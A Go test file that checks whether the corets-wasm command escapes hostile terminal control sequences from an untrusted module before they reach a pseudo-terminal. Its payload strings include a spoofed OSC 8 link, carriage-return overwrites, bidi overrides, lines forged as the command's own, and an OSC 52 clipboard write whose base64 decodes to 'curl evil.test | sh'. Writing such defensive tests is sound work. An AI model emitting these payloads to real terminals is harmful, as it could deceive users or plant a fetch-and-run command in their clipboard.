//go:build linux

package main

import (
	"bytes"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"golang.org/x/sys/unix"
)

// openPTY opens a pseudo-terminal: the terminal side a program writes to,
// and the side a terminal emulator reads what it shows from. Output
// post-processing (LF to CRLF) is off, so what the program wrote arrives
// byte for byte.
func openPTY(t *testing.T) (term, screen *os.File) {
	t.Helper()
	screen, err := os.OpenFile("/dev/ptmx", os.O_RDWR|unix.O_NOCTTY|unix.O_CLOEXEC, 0)
	if err != nil {
		t.Skipf("no pseudo-terminal: %v", err)
	}
	t.Cleanup(func() { screen.Close() })
	fd := int(screen.Fd())
	if err := unix.IoctlSetPointerInt(fd, unix.TIOCSPTLCK, 0); err != nil {
		t.Fatalf("unlockpt: %v", err)
	}
	n, err := unix.IoctlGetUint32(fd, unix.TIOCGPTN)
	if err != nil {
		t.Fatalf("ptsname: %v", err)
	}
	term, err = os.OpenFile("/dev/pts/"+strconv.Itoa(int(n)), os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { term.Close() })
	tio, err := unix.IoctlGetTermios(int(term.Fd()), unix.TCGETS)
	if err != nil {
		t.Fatal(err)
	}
	tio.Oflag &^= unix.OPOST
	if err := unix.IoctlSetTermios(int(term.Fd()), unix.TCSETS, tio); err != nil {
		t.Fatal(err)
	}
	return term, screen
}

// runOnTerminal runs the built command with stdout and stderr on two
// pseudo-terminals, without colours, and returns what each terminal
// received.
func runOnTerminal(t *testing.T, bin string, args ...string) (stdout, stderr string, exit int) {
	t.Helper()
	return runOnTerminalEnv(t, []string{"NO_COLOR=1"}, bin, args...)
}

// runOnTerminalEnv is runOnTerminal with env added to the environment.
func runOnTerminalEnv(t *testing.T, env []string, bin string, args ...string) (stdout, stderr string, exit int) {
	t.Helper()
	outTerm, outScreen := openPTY(t)
	errTerm, errScreen := openPTY(t)
	cmd := exec.Command(bin, args...)
	cmd.Env = append(os.Environ(), env...)
	cmd.Stdout, cmd.Stderr = outTerm, errTerm
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	// read while it runs: a terminal holds only a few KiB
	read := func(f *os.File, into *bytes.Buffer, done chan<- struct{}) {
		io.Copy(into, f) // ends with EIO once the last writer is gone
		close(done)
	}
	var ob, eb bytes.Buffer
	od, ed := make(chan struct{}), make(chan struct{})
	go read(outScreen, &ob, od)
	go read(errScreen, &eb, ed)
	cmd.Wait()
	outTerm.Close()
	errTerm.Close()
	<-od
	<-ed
	return ob.String(), eb.String(), cmd.ProcessState.ExitCode()
}

// actedOn lists what a terminal would act on in s rather than show.
func actedOn(s string) []string {
	var bad []string
	for i, r := range s {
		if r == '\n' || r == '\t' {
			continue
		}
		if r < 0x20 || r >= 0x7f && r <= 0x9f || r == utf8.RuneError || isBidiControl(r) {
			bad = append(bad, strconv.QuoteRune(r)+" at "+strconv.Itoa(i))
		}
	}
	return bad
}

// TestTerminalEscapes runs testdata/hostile/console-escapes with its
// output on terminals: nothing the terminal would act on arrives, what
// the module wrote is shown escaped, and no line reads as the command's
// own.
func TestTerminalEscapes(t *testing.T) {
	t.Parallel()
	bin := buildBinary(t)
	mod, err := filepath.Abs(filepath.Join("..", "..", "testdata", "hostile", "console-escapes"))
	if err != nil {
		t.Fatal(err)
	}
	shown := []string{`\x1b[2J\x1b[H`, `\x1b]8;;https://evil.test/\x1b\https://good.test/`, `\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07`,
		`safe\rEVIL`, `\u009b31mred \u009d0;title\u009c`, `\u202eevil\u202c`, `ab\x08\x08\u007f`}
	// check: what the terminal received has nothing it acts on, shows
	// each part of the payload (at least wantPayloads times), and has no
	// line that reads as the command's own but forged. ("[canary] forged"
	// is a forgery only where lines carry modules' codes: install.)
	check := func(t *testing.T, what, got string, wantPayloads int, forged string) {
		t.Helper()
		if bad := actedOn(got); len(bad) > 0 {
			t.Errorf("%s: the terminal received %s:\n%q", what, strings.Join(bad, ", "), got)
		}
		for _, s := range shown {
			if n := strings.Count(got, s); n < wantPayloads {
				t.Errorf("%s: %q shown %d times, want %d:\n%s", what, s, n, wantPayloads, got)
			}
		}
		for _, l := range strings.Split(got, "\n") {
			if strings.HasPrefix(l, "corets-wasm:") && l != forged {
				t.Errorf("%s: a line reads as the command's: %q", what, l)
			}
		}
	}

	t.Run("run", func(t *testing.T) {
		stdout, stderr, exit := runOnTerminal(t, bin, "run", mod, "--call", "print")
		t.Logf("stdout:\n%s\nstderr:\n%s", stdout, stderr)
		if exit != 0 {
			t.Fatalf("exit %d", exit)
		}
		// stdout: the JSON result alone, whose C1, bidi and DEL
		// characters are escaped as JSON escapes; stderr: the console
		// (the top level's and print's console.log, print's console.error)
		check(t, "stdout", stdout, 0, "")
		if !strings.Contains(stdout, `"\u001b[2J\u001b[H`) || !strings.Contains(stdout, `\u009b31mred`) {
			t.Errorf("the JSON result is not there, escaped")
		}
		check(t, "stderr", stderr, 3, "")
		if !strings.Contains(stderr, "\n[console-escapes] corets-wasm: load console-escapes: all checks passed\n") {
			t.Errorf("the forged line is not marked as the module's")
		}
	})
	t.Run("error", func(t *testing.T) {
		_, stderr, exit := runOnTerminal(t, bin, "run", mod, "--call", "fail", "--quiet")
		t.Logf("stderr:\n%s", stderr)
		if exit != exitException {
			t.Fatalf("exit %d", exit)
		}
		first, _, _ := strings.Cut(stderr, "\n")
		if !strings.HasPrefix(first, "corets-wasm: console-escapes.fail: Error: "+shown[0]) {
			t.Errorf("the command's error line is %q", first)
		}
		check(t, "stderr", stderr, 1, first)
		if !strings.Contains(stderr, "\n  corets-wasm: load console-escapes: all checks passed\n") {
			t.Errorf("the forged line of the message is not indented")
		}
	})
	t.Run("install", func(t *testing.T) {
		root := t.TempDir()
		stdout, stderr, exit := runOnTerminal(t, bin, "install", "--root", root, mod)
		t.Logf("stdout:\n%s\nstderr:\n%s", stdout, stderr)
		if exit != 0 {
			t.Fatalf("exit %d", exit)
		}
		check(t, "stderr", stderr, 1, "")
		for _, l := range strings.Split(strings.TrimSpace(stderr), "\n") {
			if !strings.HasPrefix(l, "[console-escapes] ") {
				t.Errorf("a line of the module's output without its prefix: %q", l)
			}
		}
		if !strings.Contains(stderr, "\n[console-escapes] [canary] forged") {
			t.Errorf("the line forging the canary's is not marked")
		}
	})
}
